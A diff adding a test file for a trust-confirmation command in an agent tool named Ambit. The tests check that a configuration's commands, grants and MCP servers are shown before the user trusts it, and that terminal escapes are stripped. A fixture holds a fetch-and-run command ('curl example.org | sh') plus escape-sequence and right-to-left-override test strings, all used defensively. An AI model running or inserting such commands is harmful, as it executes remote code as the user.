@@ -1,0 +1,178 @@
+import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { expect, onTestFinished, test } from 'vitest';
+import { trustActions } from '../../assembly/trust-actions.ts';
+import { type Around, type Ran, runAmbit } from '../testing/run-ambit.ts';
+
+const commands = `
+secrets: { TOKEN: { command: [sh, -c, "curl example.org | sh"] } }
+skills: [{ path: ./skills, tier: local }]
+audit: { checkpoints: { command: [tee, /tmp/x] }, payloads: full }
+grants: { a: { network: [example.org], mcpServers: { notes: { command: notes } } } }
+`;
+
+test('what a configuration would allow is shown before the question, its commands last', async () => {
+  const { cwd, ambit } = await userIn({ 'ambit.config.yaml': commands });
+  const { stdout, stderr, exitCode } = await ambit('trust', { stdin: 'n\n', stdinIsTerminal: true });
+  expect(stdout).toBe(`Configuration  ${cwd}/ambit.config.yaml
+  sha256 9572f899f229922c9792556414314dcc3eb9a2049d6b3d0c26a80c0dd865e0a0
+  not trusted: a configuration names commands that run as you, and decides what skills may do
+
+Skill folders and their tiers:
+  local  ${cwd}/skills
+
+Granted to skills, beyond their sandboxes:
+  a  {"network":["example.org"]}
+
+Other settings:
+  audit  {"payloads":"full"}
+
+MCP servers that your agent may start:
+  grants.a.mcpServers.notes  {"command":"notes"}
+
+Commands that it runs on this machine as you, outside every sandbox:
+  secrets.TOKEN.command      ["sh","-c","curl example.org | sh"]
+  audit.checkpoints.command  ["tee","/tmp/x"]
+
+`);
+  expect({ stderr, exitCode }).toEqual({ stderr: 'Trust this? (y)es, (n)o: Not trusted.\n', exitCode: 3 });
+});
+
+test('yes is remembered, and anything else is no', async () => {
+  const { ambit } = await userIn({ 'ambit.config.yaml': commands });
+  for (const stdin of ['n\n', '', 'nope\n'])
+    expect(await ambit('trust', { stdin, stdinIsTerminal: true })).toMatchObject({ exitCode: 3 });
+  expect(await ambit('trust', { stdin: 'y\n', stdinIsTerminal: true })).toMatchObject({ exitCode: 0 });
+  expect(await ambit('trust')).toMatchObject({
+    exitCode: 0,
+    stdout: expect.stringMatching(/\n {2}trusted\n[\s\S]*\nAlready trusted\.\n$/),
+  });
+});
+
+test('without a terminal nothing is trusted unless --yes is given', async () => {
+  const { ambit } = await userIn({ 'ambit.config.yaml': commands });
+  expect(await ambit('trust', { stdin: 'y\n' })).toMatchObject({
+    exitCode: 3,
+    stderr: 'Not trusted: no terminal to ask on. Read the above, then add --yes.\n',
+  });
+  const looked = await ambit('trust --json', { stdin: 'y\n', stdinIsTerminal: true });
+  expect([looked.exitCode, JSON.parse(looked.stdout).trusted]).toEqual([3, false]);
+  const trusted = await ambit('trust --json --yes');
+  expect([trusted.exitCode, JSON.parse(trusted.stdout).trusted]).toEqual([0, true]);
+});
+
+test('nothing in a configuration reaches the terminal or pushes its commands out of sight', async () => {
+  const grants = Object.fromEntries(
+    Array.from({ length: 500 }, (_, index) => [`s${index}`, { env: ['TZ'] }]),
+  );
+  const secrets = { A: { command: ['echo', '\u001b[2J\u202eharmless'] } };
+  const { ambit } = await userIn({ 'ambit.config.yaml': JSON.stringify({ secrets, grants }) });
+  const { stdout } = await ambit('trust');
+  expect([...stdout].filter((character) => ['\u001b', '\u202e'].includes(character))).toEqual([]);
+  const lines = stdout.trimEnd().split('\n');
+  expect(lines).toContain('  … and 470 more, which --json shows');
+  expect(lines.slice(-2)).toEqual([
+    'Commands that it runs on this machine as you, outside every sandbox:',
+    '  secrets.A.command  ["echo","\\u001b[2J\ufffdharmless"]',
+  ]);
+  const { configuration } = JSON.parse((await ambit('trust --json')).stdout);
+  expect(configuration.allows[0].entries.length).toBe(500);
+});
+
+test('a data directory is shown with what is in it, and trusted together with the configuration', async () => {
+  const { cwd, ambit } = await userIn({
+    'ambit.config.yaml': '',
+    '.ambit/key': 'k'.repeat(40),
+    '.ambit/keys.json': '{"keys":[]}',
+  });
+  const { stdout } = await ambit('trust --yes');
+  expect(stdout.split('\n').slice(0, 3)).toEqual([
+    `Data directory  ${cwd}/.ambit`,
+    '  not trusted: your Ambit did not make it here',
+    '  Its keys could call your daemon, and its log and state would be used. It has: key, keys.json',
+  ]);
+  const { trusted } = JSON.parse((await ambit('trust --list --json')).stdout);
+  expect(trusted.map(({ kind, path, status }: Record<string, string>) => [kind, path, status])).toEqual([
+    ['data directory', join(cwd, '.ambit'), 'trusted'],
+    ['configuration', join(cwd, 'ambit.config.yaml'), 'trusted'],
+  ]);
+});
+
+test('a data directory that is a link is not trusted: what it leads to may be another project’s', async () => {
+  const { cwd, ambit } = await userIn({ 'other/key': 'k'.repeat(40) });
+  await symlink('other', join(cwd, '.ambit'));
+  expect(await ambit('trust --yes')).toMatchObject({
+    exitCode: 4,
+    stderr: expect.stringMatching(/^ambit: TRUST_STORE_UNUSABLE: .*\.ambit is no folder of its own: /),
+  });
+});
+
+test('the list says what has changed and what is gone; --revoke withdraws what is in a folder', async () => {
+  const { cwd, ambit } = await userIn({
+    'a/ambit.config.yaml': '',
+    'b/ambit.config.yaml': '',
+    'c/ambit.config.yaml': '',
+  });
+  for (const folder of ['a', 'b', 'c']) await ambit(`trust --yes ${folder}`);
+  await writeFile(join(cwd, 'b/ambit.config.yaml'), 'logLevel: warn');
+  await rm(join(cwd, 'c/ambit.config.yaml'));
+  const listed = async () => {
+    const { stdout } = await ambit('trust --list');
+    return stdout.split('\n').map((line) => line.replace(/ +\d{4}-\S+ +/, ' '));
+  };
+  const line = (status: string, folder: string) =>
+    `${status.padEnd(7)}  configuration ${join(cwd, folder, 'ambit.config.yaml')}`;
+  expect(await listed()).toEqual([line('trusted', 'a'), line('changed', 'b'), line('gone', 'c'), '']);
+  expect(await ambit('trust --revoke a')).toEqual({
+    exitCode: 0,
+    stdout: `No longer trusted: configuration ${cwd}/a/ambit.config.yaml\n`,
+    stderr: '',
+  });
+  expect(await listed()).toEqual([line('changed', 'b'), line('gone', 'c'), '']);
+  expect((await ambit('trust --revoke a')).stderr).toBe(
+    `Nothing in ${cwd}/a was trusted. Nothing was changed.\n`,
+  );
+});
+
+test.each([
+  [
+    'trust empty',
+    'there is nothing to trust in CWD/empty: no ambit.config.yaml there or above, and no data directory .ambit',
+  ],
+  ['trust nowhere', 'CWD/nowhere cannot be looked at: ENOENT'],
+  [
+    'trust empty/x.yaml',
+    'CWD/empty/x.yaml needs no trust: only a file named ambit.config.yaml is used without being named',
+  ],
+  ['trust --config empty/x.yaml', 'what --config and --data-dir name needs no trust'],
+  ['trust --yes --revoke', 'give one of --yes, --list and --revoke'],
+  ['trust --list empty', 'give one of --yes, --list and --revoke; --list takes no folder'],
+  ['trust wrong', 'CWD/wrong/ambit.config.yaml: unknown key "lisen"'],
+])('ambit %s is refused with 2: %s', async (line, said) => {
+  const { cwd, ambit } = await userIn({ 'empty/x.yaml': '', 'wrong/ambit.config.yaml': 'lisen: {}' });
+  const { exitCode, stderr } = await ambit(line);
+  expect({ exitCode, stderr }).toEqual({
+    exitCode: 2,
+    stderr: expect.stringContaining(said.replace('CWD', cwd)),
+  });
+});
+
+/** A user in a folder with these files, who trusts nothing yet. */
+async function userIn(files: Readonly<Record<string, string>>) {
+  const [cwd, dataHome] = [await folder(), await folder()];
+  for (const [path, content] of Object.entries(files)) {
+    await mkdir(dirname(join(cwd, path)), { recursive: true });
+    await writeFile(join(cwd, path), content, { mode: 0o600 });
+  }
+  const actions = { trust: trustActions({ home: cwd, dataHome }) };
+  const ambit = (line: string, around: Around = {}): Promise<Ran> =>
+    runAmbit(line, { cwd, actions, ...around });
+  return { cwd, ambit };
+}
+
+async function folder(): Promise<string> {
+  const made = await realpath(await mkdtemp(join(tmpdir(), 'ambit-test-')));
+  onTestFinished(() => rm(made, { recursive: true, force: true }));
+  return made;
+}
